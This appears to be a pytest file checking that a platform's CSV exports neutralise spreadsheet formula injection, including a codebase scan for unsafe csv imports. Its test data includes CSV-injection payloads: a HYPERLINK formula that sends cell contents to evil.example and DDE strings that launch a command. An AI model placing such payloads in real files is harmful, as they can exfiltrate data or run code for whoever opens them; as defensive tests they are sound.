"""CSV injection: every CSV the platform writes defuses cells a spreadsheet would run."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from core.csv_export import FORMULA_PREFIXES, csv_writer, neutralise

ROOT = Path(__file__).resolve().parents[2]
# A name for each character that starts a formula (a tab or carriage return may stand
# before one). Short enough for any id column (64 characters).
FORMULA_NAMES = [
    '=HYPERLINK("//evil.example/?"&A2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_each_formula_name_starts_with_a_formula_prefix() -> None:
    assert sorted(n[0] for n in FORMULA_NAMES) == sorted(FORMULA_PREFIXES)


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_a_text_cell_that_starts_a_formula_gets_a_quote(name: str) -> None:
    assert neutralise(name) == f"'{name}"


@pytest.mark.parametrize(
    "cell",
    [
        "Mobile app",
        "chat-small",
        "key (mk_live_ab…)",
        "a=b",  # only the first character starts a formula
        "",
        "-1.5",  # text that is a plain number: a spreadsheet reads a number, runs nothing
        "-42",
        -42,  # numbers the platform writes stay numbers
        Decimal("-1.500000000"),
        1.25,
        None,
    ],
)
def test_other_cells_are_written_as_they_are(cell: object) -> None:
    assert neutralise(cell) is cell


def test_the_writer_quotes_and_round_trips() -> None:
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["name", "amount"])
    writer.writerows([[n, Decimal("-2.50")] for n in FORMULA_NAMES])

    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))

    assert rows[0] == ["name", "amount"]
    assert rows[1:] == [[f"'{n}", "-2.50"] for n in FORMULA_NAMES]


@pytest.mark.parametrize("terminator", ["\n", "\r\n"])
def test_a_line_break_inside_a_name_never_starts_a_row(terminator: str) -> None:
    """Otherwise the rest of the name would be the first cell of a new row, unquoted."""
    out = io.StringIO()
    writer = csv_writer(out, lineterminator=terminator)
    writer.writerows([["ok\r=1+1", 1], ["ok\n@SUM(A1)", 2], ["plain", 3]])

    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))

    assert rows == [["ok\r=1+1", "1"], ["ok\n@SUM(A1)", "2"], ["plain", "3"]]


def test_every_csv_writer_in_the_code_base_is_the_safe_one() -> None:
    """Only core/csv_export.py imports the csv module; everything else writes CSV
    through it, so no export can forget to defuse its cells."""
    allowed = ROOT / "platform" / "core" / "csv_export.py"
    offenders = []
    for base in ("platform", "billing", "workers", "bench", "bin", "deploy"):
        for path in (ROOT / base).rglob("*.py"):
            if path == allowed or "migrations" in path.parts:
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if isinstance(node, ast.Import):
                    names = [a.name for a in node.names]
                elif isinstance(node, ast.ImportFrom) and node.level == 0:
                    names = [node.module or ""]
                else:
                    continue
                if any(n == "csv" or n.startswith("csv.") for n in names):
                    offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
    # And it found the real ones: both usage exports use the safe writer.
    for module in ("platform/console/selectors.py", "billing/backoffice/selectors.py"):
        assert "csv_writer(" in (ROOT / module).read_text(encoding="utf-8")
